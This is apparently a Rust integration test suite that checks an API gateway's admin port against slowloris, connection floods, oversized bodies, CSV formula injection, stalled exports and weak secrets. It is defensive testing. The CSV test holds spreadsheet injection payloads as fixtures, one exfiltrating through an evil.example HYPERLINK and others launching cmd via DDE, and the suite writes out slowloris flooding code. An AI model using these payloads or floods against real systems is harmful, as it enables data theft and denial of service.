//! The admin port attacked: slowloris and stalled bodies, a connection
//! flood, big bodies, malformed requests, an event stream outliving its
//! caller's access, CSV formula injection through audited text, stalled
//! export readers, plaintext and open `/metrics`, weak startup secrets.

use crate::common::{self, ADMIN_PASSWORD, Gateway, tls};
use serde_json::{Value, json};
use std::time::{Duration, Instant};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

/// A static admin token strong enough for the startup check.
const TOKEN: &str = "admin-port-abuse-token-0123456789abcdef";

async fn gateway(admin_keys: &str) -> Gateway {
    Gateway::start_with_admin(&format!("admin:\n  token: {TOKEN}\n{admin_keys}"), &[]).await
}

/// Read until the server closes the connection (or `limit` passes); the
/// bytes read and when the close came.
async fn read_until_closed(s: &mut TcpStream, limit: Duration) -> (Vec<u8>, Option<Duration>) {
    let start = Instant::now();
    let mut out = Vec::new();
    let mut buf = [0u8; 4096];
    loop {
        let left = limit.saturating_sub(start.elapsed());
        match tokio::time::timeout(left, s.read(&mut buf)).await {
            Ok(Ok(0)) | Ok(Err(_)) => return (out, Some(start.elapsed())),
            Ok(Ok(n)) => out.extend_from_slice(&buf[..n]),
            Err(_) => return (out, None),
        }
    }
}

fn api(gw: &Gateway, method: reqwest::Method, path: &str) -> reqwest::RequestBuilder {
    reqwest::Client::new()
        .request(method, gw.admin_url(path))
        .bearer_auth(TOKEN)
}

#[tokio::test]
async fn slowloris_and_stalled_bodies_are_closed_within_the_timeouts() {
    let gw = gateway("  header_timeout: 2s\n  idle_timeout: 3s\n").await;
    // A request line and one header name, then nothing.
    let mut s = TcpStream::connect(("127.0.0.1", gw.admin_port)).await.unwrap();
    s.write_all(b"GET /health HTTP/1.1\r\nHost: x\r\nX-Slow").await.unwrap();
    let (_, closed) = read_until_closed(&mut s, Duration::from_secs(35)).await;
    let closed = closed.expect("a half-sent head stayed open 35 s");
    assert!(
        closed < Duration::from_secs(5),
        "closed after {closed:?}, header timeout 2 s"
    );
    eprintln!("half-sent head closed after {closed:?}");
    // An idle kept-alive connection after a full request.
    let mut s = TcpStream::connect(("127.0.0.1", gw.admin_port)).await.unwrap();
    s.write_all(b"GET /health HTTP/1.1\r\nHost: x\r\n\r\n").await.unwrap();
    let (answer, closed) = read_until_closed(&mut s, Duration::from_secs(35)).await;
    assert!(String::from_utf8_lossy(&answer).starts_with("HTTP/1.1 200"));
    let closed = closed.expect("an idle keep-alive connection stayed open 35 s");
    assert!(
        closed < Duration::from_secs(5),
        "idle connection closed after {closed:?}"
    );
    eprintln!("idle keep-alive closed after {closed:?}");
    // A body announced as 1000 bytes, 10 sent, then nothing.
    let mut s = TcpStream::connect(("127.0.0.1", gw.admin_port)).await.unwrap();
    let head = format!(
        "POST /api/users HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {TOKEN}\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n{{\"username"
    );
    s.write_all(head.as_bytes()).await.unwrap();
    let (_, closed) = read_until_closed(&mut s, Duration::from_secs(35)).await;
    let closed = closed.expect("a stalled body stayed open 35 s");
    assert!(
        closed < Duration::from_secs(6),
        "stalled body closed after {closed:?}, idle timeout 3 s"
    );
    eprintln!("stalled body closed after {closed:?}");
    // The port still serves.
    let r = reqwest::get(gw.admin_url("/health")).await.unwrap();
    assert_eq!(r.status(), 200);
}

#[tokio::test]
async fn connections_over_the_cap_get_a_json_503_and_the_port_recovers() {
    let gw = gateway("  max_connections: 4\n  header_timeout: 20s\n").await;
    let mut held = Vec::new();
    for _ in 0..4 {
        // One answered request each: accepted for sure, then kept alive.
        let mut s = TcpStream::connect(("127.0.0.1", gw.admin_port)).await.unwrap();
        s.write_all(b"GET /health HTTP/1.1\r\nHost: x\r\n\r\n").await.unwrap();
        let mut buf = [0u8; 1024];
        let n = s.read(&mut buf).await.unwrap();
        assert!(
            buf[..n].starts_with(b"HTTP/1.1 200"),
            "{}",
            String::from_utf8_lossy(&buf[..n])
        );
        held.push(s);
    }
    let start = Instant::now();
    for i in 0..20 {
        // Half send their request first: they read the answer, not a reset.
        let mut s = TcpStream::connect(("127.0.0.1", gw.admin_port)).await.unwrap();
        if i % 2 == 0 {
            s.write_all(b"GET /health HTTP/1.1\r\nHost: x\r\n\r\n").await.unwrap();
        }
        let (answer, closed) = read_until_closed(&mut s, Duration::from_secs(5)).await;
        let answer = String::from_utf8_lossy(&answer).into_owned();
        assert!(closed.is_some(), "an over-cap connection stays open");
        assert!(answer.starts_with("HTTP/1.1 503"), "{answer}");
        assert!(answer.contains(r#""code":"unavailable""#), "{answer}");
    }
    assert!(
        start.elapsed() < Duration::from_secs(5),
        "refusals took {:?}",
        start.elapsed()
    );
    drop(held);
    let r = common::until_status(|| reqwest::Client::new().get(gw.admin_url("/health")), |s| s == 200).await;
    assert_eq!(r.status(), 200, "the port serves again once connections close");
}

#[tokio::test]
async fn a_body_over_max_body_is_a_json_413_declared_or_chunked() {
    let gw = gateway("  max_body: 64KiB\n").await;
    let big = json!({"username": "x".repeat(100_000), "password": "p"}).to_string();
    let r = api(&gw, reqwest::Method::POST, "/api/users")
        .header("content-type", "application/json")
        .body(big.clone())
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 413);
    assert_eq!(r.headers()["cache-control"], "no-store");
    let body: Value = r.json().await.unwrap();
    assert_eq!(body["error"]["code"], "payload_too_large", "{body}");
    // Chunked: no length to refuse up front; cut while reading.
    let chunks = futures_util::stream::iter(
        big.into_bytes()
            .chunks(8192)
            .map(|c| Ok::<_, std::io::Error>(c.to_vec()))
            .collect::<Vec<_>>(),
    );
    let r = api(&gw, reqwest::Method::POST, "/api/users")
        .header("content-type", "application/json")
        .body(reqwest::Body::wrap_stream(chunks))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 413);
    let body: Value = r.json().await.unwrap();
    assert_eq!(body["error"]["code"], "payload_too_large", "{body}");
    let users: Value = api(&gw, reqwest::Method::GET, "/api/users")
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(users.as_array().map(Vec::len), Some(1), "no user was created: {users}");
}

#[tokio::test]
async fn every_rejection_is_a_json_error_and_api_answers_are_not_cached() {
    let gw = gateway("").await;
    let post = |path: &str, ct: &str, body: &str| {
        api(&gw, reqwest::Method::POST, path)
            .header("content-type", ct.to_string())
            .body(body.to_string())
    };
    let cases: Vec<(&str, reqwest::RequestBuilder, u16, &str)> = vec![
        (
            "bad JSON",
            post("/api/users", "application/json", "{not json"),
            400,
            "invalid_request",
        ),
        (
            "wrong field types",
            post("/api/users", "application/json", r#"{"username": 1}"#),
            422,
            "invalid_request",
        ),
        (
            "wrong content type",
            post("/api/users", "text/plain", "{}"),
            415,
            "unsupported_media_type",
        ),
        (
            "405",
            api(&gw, reqwest::Method::DELETE, "/api/me"),
            405,
            "method_not_allowed",
        ),
        (
            "unknown API path",
            api(&gw, reqwest::Method::GET, "/api/nope"),
            404,
            "not_found",
        ),
        (
            "bad query",
            api(&gw, reqwest::Method::GET, "/api/logs?limit=abc"),
            400,
            "invalid_request",
        ),
        (
            "bad path parameter",
            api(&gw, reqwest::Method::GET, "/api/logs/abc"),
            400,
            "invalid_request",
        ),
        (
            "no credentials",
            reqwest::Client::new().get(gw.admin_url("/api/me")),
            401,
            "unauthenticated",
        ),
    ];
    for (what, req, status, code) in cases {
        let r = req.send().await.unwrap();
        assert_eq!(r.status(), status, "{what}");
        assert_eq!(r.headers()["cache-control"], "no-store", "{what}");
        assert!(
            r.headers()["content-type"]
                .to_str()
                .unwrap()
                .starts_with("application/json"),
            "{what}: {:?}",
            r.headers()["content-type"]
        );
        let allow = r.headers().get("allow").cloned();
        let body: Value = r.json().await.unwrap();
        assert_eq!(body["error"]["code"], code, "{what}: {body}");
        assert!(
            !body["error"]["message"].as_str().unwrap_or_default().is_empty(),
            "{what}: {body}"
        );
        if status == 405 {
            assert!(
                allow.is_some_and(|a| a.to_str().unwrap().contains("GET")),
                "{what}: Allow kept"
            );
        }
    }
    for path in ["/api/me", "/health", "/metrics"] {
        let r = api(&gw, reqwest::Method::GET, path).send().await.unwrap();
        assert_eq!(r.status(), 200, "{path}");
        assert_eq!(r.headers()["cache-control"], "no-store", "{path}");
    }
    // The UI keeps its own caching.
    let r = reqwest::get(gw.admin_url("/")).await.unwrap();
    assert_ne!(
        r.headers().get("cache-control").map(|v| v.to_str().unwrap()),
        Some("no-store")
    );
}

/// Reads an SSE body until it ends; when it ended.
async fn stream_end(resp: reqwest::Response, limit: Duration) -> Option<Instant> {
    use futures_util::StreamExt;
    let mut body = resp.bytes_stream();
    let deadline = Instant::now() + limit;
    loop {
        let left = deadline.saturating_duration_since(Instant::now());
        match tokio::time::timeout(left, body.next()).await {
            Ok(Some(Ok(_))) => continue,
            Ok(None) | Ok(Some(Err(_))) => return Some(Instant::now()),
            Err(_) => return None,
        }
    }
}

#[tokio::test]
async fn the_event_stream_ends_within_a_second_of_its_admin_losing_access() {
    let gw = gateway("").await;
    for (name, change) in [
        ("second", json!({"disabled": true})),
        ("third", json!({"role": "user"})),
        ("fourth", json!({"password": "a-brand-new-password-1"})),
    ] {
        let created: Value = api(&gw, reqwest::Method::POST, "/api/users")
            .json(&json!({"username": name, "password": ADMIN_PASSWORD, "role": "admin"}))
            .send()
            .await
            .unwrap()
            .json()
            .await
            .unwrap();
        let id = created["id"].as_str().unwrap().to_string();
        let jwt = gw.login(name, ADMIN_PASSWORD).await;
        let resp = reqwest::Client::new()
            .get(gw.admin_url("/api/events"))
            .bearer_auth(&jwt)
            .send()
            .await
            .unwrap();
        assert_eq!(resp.status(), 200, "{name}");
        assert_eq!(resp.headers()["cache-control"], "no-store");
        let ended = tokio::spawn(stream_end(resp, Duration::from_secs(10)));
        // Still open while access holds.
        tokio::time::sleep(Duration::from_millis(1500)).await;
        assert!(!ended.is_finished(), "{name}: the stream ended on its own");
        let changed = Instant::now();
        let r = api(&gw, reqwest::Method::PATCH, &format!("/api/users/{id}"))
            .json(&change)
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 200, "{name}");
        let end = ended
            .await
            .unwrap()
            .unwrap_or_else(|| panic!("{name}: the stream outlived access by 10 s"));
        let after = end.duration_since(changed);
        assert!(
            after < Duration::from_millis(1500),
            "{name}: ended {after:?} after the change"
        );
        eprintln!("{name}: stream ended {after:?} after {change}");
    }
    // The static token's stream is unaffected by users' changes.
    let resp = api(&gw, reqwest::Method::GET, "/api/events").send().await.unwrap();
    assert!(stream_end(resp, Duration::from_secs(2)).await.is_none());
}

/// Insert `n` audit rows straight into the gateway's database.
fn insert_rows(gw: &Gateway, n: usize, make: impl Fn(usize) -> fastgate::store::audit::AuditRecord) {
    let mut conn = fastgate::store::open(&gw.db_path()).unwrap();
    let rows: Vec<_> = (0..n).map(make).collect();
    for batch in rows.chunks(1000) {
        fastgate::store::audit::insert_batch(&mut conn, batch).unwrap();
    }
}

fn record(i: usize) -> fastgate::store::audit::AuditRecord {
    fastgate::store::audit::AuditRecord {
        request_id: format!("req-{i}"),
        // Within the retention (30 days by default): an older row may be
        // deleted by the retention pass while the test reads.
        ts_ms: fastgate::clock::now_ms() - 3_600_000 + i as i64,
        method: "POST".into(),
        path: "/v1/chat/completions".into(),
        status: 200,
        duration_ms: 12.5,
        ..Default::default()
    }
}

#[tokio::test]
async fn csv_export_quotes_formulas_and_keeps_numbers() {
    let gw = gateway("").await;
    let formula = r#"=HYPERLINK("http://evil.example/?x="&A1,"click")"#;
    insert_rows(&gw, 1, |i| fastgate::store::audit::AuditRecord {
        user_agent: Some(formula.into()),
        model: Some("+cmd|' /C calc'!A0".into()),
        error: Some("-2+3+cmd|' /C calc'!A0".into()),
        route: Some("@SUM(1+1)*cmd|' /C calc'!A0".into()),
        endpoint: Some("\tTAB".into()),
        upstream: Some("-1".into()),
        retries: 3,
        prompt_tokens: Some(7),
        ..record(i)
    });
    let r = api(&gw, reqwest::Method::GET, "/api/logs/export?format=csv")
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    assert_eq!(r.headers()["cache-control"], "no-store");
    let text = r.text().await.unwrap();
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let header = reader.headers().unwrap().clone();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 1, "{text}");
    let cell = |name: &str| rows[0][header.iter().position(|h| h == name).unwrap()].to_string();
    assert_eq!(cell("user_agent"), format!("'{formula}"));
    assert_eq!(cell("model"), "'+cmd|' /C calc'!A0");
    assert_eq!(cell("error"), "'-2+3+cmd|' /C calc'!A0");
    assert_eq!(cell("route"), "'@SUM(1+1)*cmd|' /C calc'!A0");
    assert_eq!(cell("endpoint"), "'\tTAB");
    assert_eq!(cell("upstream"), "-1", "a number in a text column stays");
    assert_eq!(cell("status"), "200");
    assert_eq!(cell("retries"), "3");
    assert_eq!(cell("prompt_tokens"), "7");
    assert_eq!(cell("duration_ms"), "12.5");
    // No cell anywhere starts a formula.
    for field in rows[0].iter() {
        assert!(!field.starts_with(['=', '+', '@']), "{field:?}");
    }
    // NDJSON keeps the values as they are (JSON is not a spreadsheet).
    let nd = api(&gw, reqwest::Method::GET, "/api/logs/export?format=ndjson")
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    let row: Value = serde_json::from_str(nd.lines().next().unwrap()).unwrap();
    assert_eq!(row["user_agent"], formula);
}

/// Open file descriptors of `pid` on the gateway's database files.
fn db_fds(pid: u32, db: &std::path::Path) -> usize {
    let db = db.to_string_lossy().into_owned();
    std::fs::read_dir(format!("/proc/{pid}/fd"))
        .unwrap()
        .flatten()
        .filter(|fd| std::fs::read_link(fd.path()).is_ok_and(|t| t.to_string_lossy().starts_with(&db)))
        .count()
}

#[tokio::test]
async fn stalled_export_readers_hold_no_database_connection_and_block_nobody() {
    let gw = gateway("  idle_timeout: 60s\n").await;
    // About 24 MB of NDJSON: far more than socket buffers hold.
    let agent = "a".repeat(1000);
    insert_rows(&gw, 20_000, |i| fastgate::store::audit::AuditRecord {
        user_agent: Some(agent.clone()),
        ..record(i)
    });
    // Warm up: the API's own reader connections are open.
    let r = api(&gw, reqwest::Method::GET, "/api/logs?limit=1")
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    let pid = gw.child.id();
    let fds_before = db_fds(pid, &gw.db_path());
    let mut stalled = Vec::new();
    for _ in 0..10 {
        let socket = tokio::net::TcpSocket::new_v4().unwrap();
        socket.set_recv_buffer_size(4096).unwrap();
        let mut s = socket
            .connect(format!("127.0.0.1:{}", gw.admin_port).parse().unwrap())
            .await
            .unwrap();
        let req =
            format!("GET /api/logs/export?format=ndjson HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {TOKEN}\r\n\r\n");
        s.write_all(req.as_bytes()).await.unwrap();
        let mut one = [0u8; 1];
        s.read_exact(&mut one).await.unwrap();
        stalled.push(s); // and never read again
    }
    // Let the exports fill their buffers and stall.
    tokio::time::sleep(Duration::from_secs(2)).await;
    let fds_stalled = db_fds(pid, &gw.db_path());
    // The old export opened a connection per export (3 files each).
    assert!(
        fds_stalled < fds_before + 5,
        "10 stalled exports hold database files open: {fds_before} -> {fds_stalled} fds"
    );
    // Other requests are served at once (coarse: the machine is shared),
    // another export completes.
    for path in ["/api/me", "/api/logs?limit=5", "/api/users"] {
        let start = Instant::now();
        let r = api(&gw, reqwest::Method::GET, path).send().await.unwrap();
        assert_eq!(r.status(), 200, "{path}");
        assert!(
            start.elapsed() < Duration::from_secs(5),
            "{path} took {:?}",
            start.elapsed()
        );
    }
    let start = Instant::now();
    let all = api(&gw, reqwest::Method::GET, "/api/logs/export?format=ndjson")
        .send()
        .await
        .unwrap()
        .bytes()
        .await
        .unwrap();
    let lines = all.iter().filter(|b| **b == b'\n').count();
    assert_eq!(lines, 20_000, "the full export beside 10 stalled ones");
    assert!(
        start.elapsed() < Duration::from_secs(30),
        "export took {:?}",
        start.elapsed()
    );
    eprintln!(
        "db fds: {fds_before} before, {fds_stalled} with 10 stalled exports; full export of {} bytes in {:?}",
        all.len(),
        start.elapsed()
    );
    drop(stalled);
}

#[tokio::test]
async fn the_admin_port_serves_tls_when_configured() {
    let ca = tls::Ca::new("admin-ca");
    let dir = tempfile::tempdir().unwrap();
    let first = ca.leaf(dir.path(), "admin", &["localhost"], 30);
    let gw = gateway(&format!(
        "  header_timeout: 2s\n  tls:\n    cert: {}\n    key: {}\n",
        dir.path().join("admin.pem").display(),
        dir.path().join("admin.key").display()
    ))
    .await;
    let client = reqwest::Client::builder()
        .add_root_certificate(ca.reqwest_root())
        .resolve("localhost", ([127, 0, 0, 1], gw.admin_port).into())
        .build()
        .unwrap();
    let url = format!("https://localhost:{}", gw.admin_port);
    let r = client.get(format!("{url}/health")).send().await.unwrap();
    assert_eq!(r.status(), 200);
    let r = client
        .get(format!("{url}/api/me"))
        .bearer_auth(TOKEN)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    // Plain HTTP gets no answer.
    let plain = common::raw_http(
        gw.admin_port,
        "GET /health HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
    )
    .await;
    assert!(!plain.contains("200"), "{plain}");
    // A TLS hello that never comes is cut at the header timeout; the port
    // keeps serving meanwhile.
    let mut idle = TcpStream::connect(("127.0.0.1", gw.admin_port)).await.unwrap();
    assert_eq!(client.get(format!("{url}/health")).send().await.unwrap().status(), 200);
    let (_, closed) = read_until_closed(&mut idle, Duration::from_secs(35)).await;
    let closed = closed.expect("a connection without a TLS hello stayed open 35 s");
    assert!(closed < Duration::from_secs(5), "no hello: closed after {closed:?}");
    eprintln!("no TLS hello: closed after {closed:?}");
    // A renewed certificate is picked up (file watch) for new handshakes.
    let served = || async {
        let tcp = TcpStream::connect(("127.0.0.1", gw.admin_port)).await.unwrap();
        let tls = tokio_rustls::TlsConnector::from(ca.client_config())
            .connect("localhost".try_into().unwrap(), tcp)
            .await
            .unwrap();
        tls.get_ref().1.peer_certificates().unwrap()[0].clone().into_owned()
    };
    assert_eq!(served().await, first);
    let renewed = ca.leaf(dir.path(), "admin", &["localhost"], 60);
    let deadline = Instant::now() + Duration::from_secs(10);
    while served().await != renewed {
        assert!(
            Instant::now() < deadline,
            "the renewed admin certificate was not picked up in 10 s"
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

#[tokio::test]
async fn metrics_asks_for_its_token_when_one_is_set() {
    let secret = "metrics-scraper-token-0123456789abcdef";
    let gw = gateway(&format!("  metrics_token: {secret}\n")).await;
    let c = reqwest::Client::new();
    let r = c.get(gw.admin_url("/metrics")).send().await.unwrap();
    assert_eq!(r.status(), 401);
    assert_eq!(r.headers()["www-authenticate"], "Bearer");
    let body: Value = r.json().await.unwrap();
    assert_eq!(body["error"]["code"], "unauthenticated");
    let r = c
        .get(gw.admin_url("/metrics"))
        .bearer_auth("wrong")
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 401);
    let r = c.get(gw.admin_url("/metrics")).bearer_auth(TOKEN).send().await.unwrap();
    assert_eq!(r.status(), 401, "the admin token is not the metrics token");
    let r = c
        .get(gw.admin_url("/metrics"))
        .bearer_auth(secret)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    assert!(r.text().await.unwrap().contains("fastgate_"));
    assert_eq!(c.get(gw.admin_url("/health")).send().await.unwrap().status(), 200);
}

#[tokio::test]
async fn weak_secrets_stop_the_start_and_fail_check_naming_the_setting() {
    let dir = tempfile::tempdir().unwrap();
    let routes = dir.path().join("routes.d");
    std::fs::create_dir(&routes).unwrap();
    let strong = "q3v1Yc0m7+G0yJ6l0m6b8o6r1w2Z6t9w0H3r8Wm8f1A=";
    let cases = [
        ("admin.token", "admin:\n  token: short-token\n".to_string()),
        (
            "admin.jwt_secret",
            format!("admin:\n  jwt_secret: {}\n", "ab".repeat(30)),
        ),
        ("admin.metrics_token", "admin:\n  metrics_token: scrape\n".to_string()),
        ("secrets.master_key", "secrets:\n  master_key: changeme\n".to_string()),
    ];
    for (setting, yaml) in &cases {
        let conf = dir.path().join("fastgate.yaml");
        let full = format!(
            "server:\n  listen: 127.0.0.1:{}\n{yaml}database:\n  path: {}\nroutes_dir: {}\n",
            common::free_port(),
            dir.path().join("fg.db").display(),
            routes.display()
        );
        std::fs::write(&conf, &full).unwrap();
        let line = full
            .lines()
            .position(|l| l.contains(&setting[setting.find('.').unwrap() + 1..]))
            .unwrap()
            + 1;
        let (ok, _, err) = common::check(&conf, dir.path());
        assert!(!ok, "{setting}: check passed");
        assert!(
            err.contains(&format!("fastgate.yaml:{line}: {setting} is too weak")) && err.contains("openssl rand"),
            "{setting}: {err}"
        );
        let start = Instant::now();
        let out = tokio::time::timeout(
            Duration::from_secs(10),
            tokio::process::Command::new(common::bin())
                .args(["serve", "-c"])
                .arg(&conf)
                .env("FASTGATE_ADMIN_PASSWORD", ADMIN_PASSWORD)
                .output(),
        )
        .await
        .unwrap_or_else(|_| panic!("{setting}: serve started with a weak secret"))
        .unwrap();
        assert!(!out.status.success(), "{setting}");
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(
            stderr.contains(&format!("{setting} is too weak")),
            "{setting}: {stderr}"
        );
        assert!(start.elapsed() < Duration::from_secs(10));
        assert!(!dir.path().join("fg.db").exists(), "{setting}: nothing was created");
    }
    // The same file with strong values passes.
    let conf = dir.path().join("fastgate.yaml");
    std::fs::write(
        &conf,
        format!(
            "admin:\n  token: {strong}\n  jwt_secret: {strong}\n  metrics_token: {strong}\nsecrets:\n  master_key: {strong}\nroutes_dir: {}\n",
            routes.display()
        ),
    )
    .unwrap();
    let (ok, out, err) = common::check(&conf, dir.path());
    assert!(ok, "{out}{err}");
}

#[tokio::test]
async fn a_slowloris_flood_keeps_at_most_the_cap_open_and_memory_flat() {
    let gw = gateway("  max_connections: 100\n  header_timeout: 4s\n").await;
    let pid = gw.child.id();
    let rss_before = crate::common::rss_kib(pid);
    let mut conns = Vec::new();
    for _ in 0..600 {
        let mut s = TcpStream::connect(("127.0.0.1", gw.admin_port)).await.unwrap();
        s.write_all(b"GET /health HTTP/1.1\r\nHost: x\r\nX-Slow").await.unwrap();
        conns.push(s);
    }
    tokio::time::sleep(Duration::from_millis(1500)).await;
    let rss_flood = crate::common::rss_kib(pid);
    // All at once: is each connection answered/closed within 1 s, or held?
    let held = futures_util::future::join_all(conns.iter_mut().map(|s| async move {
        let (_, closed) = read_until_closed(s, Duration::from_secs(1)).await;
        closed.is_none()
    }))
    .await
    .into_iter()
    .filter(|h| *h)
    .count();
    eprintln!(
        "600 slowloris connections, cap 100: {held} held; RSS {rss_before} -> {rss_flood} KiB (+{} KiB)",
        rss_flood.saturating_sub(rss_before)
    );
    assert!(held <= 100, "{held} connections held past the cap of 100");
    assert!(
        rss_flood.saturating_sub(rss_before) < 32 * 1024,
        "RSS grew {} KiB under the flood",
        rss_flood - rss_before
    );
    // The held ones are cut at the header timeout.
    let start = Instant::now();
    let cut = futures_util::future::join_all(
        conns
            .iter_mut()
            .map(|s| async move { read_until_closed(s, Duration::from_secs(10)).await.1.is_some() }),
    )
    .await;
    assert!(
        cut.iter().all(|c| *c),
        "a slowloris connection outlived the header timeout"
    );
    assert!(start.elapsed() < Duration::from_secs(10), "{:?}", start.elapsed());
    drop(conns);
    let r = common::until_status(|| reqwest::Client::new().get(gw.admin_url("/health")), |s| s == 200).await;
    assert_eq!(r.status(), 200);
}
